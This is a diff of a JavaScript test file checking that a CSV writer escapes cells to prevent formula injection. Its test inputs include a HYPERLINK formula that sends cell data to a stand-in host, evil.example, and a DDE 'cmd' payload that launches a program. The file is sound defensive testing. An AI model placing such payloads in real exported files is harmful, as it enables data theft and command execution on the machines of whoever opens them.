@@ -13,7 +13,7 @@ describe('the CSV writer (RFC 4180, OWASP CSV injection)', () => {
   it('puts an apostrophe before a text cell that starts with =, +, -, @, tab or carriage return', () => {
     expect(csvCell('=HYPERLINK("https://evil.example?d="&A1,"Click")')).toBe(`"'=HYPERLINK(""https://evil.example?d=""&A1,""Click"")"`);
     expect(csvCell('+61 400 000 000')).toBe("'+61 400 000 000");
-    expect(csvCell('-2+3+cmd|\' /C calc\'!A0')).toBe("'-2+3+cmd|' /C calc'!A0");
+    expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
     expect(csvCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
     expect(csvCell('\t=1+1')).toBe(`"'\t=1+1"`);
     expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
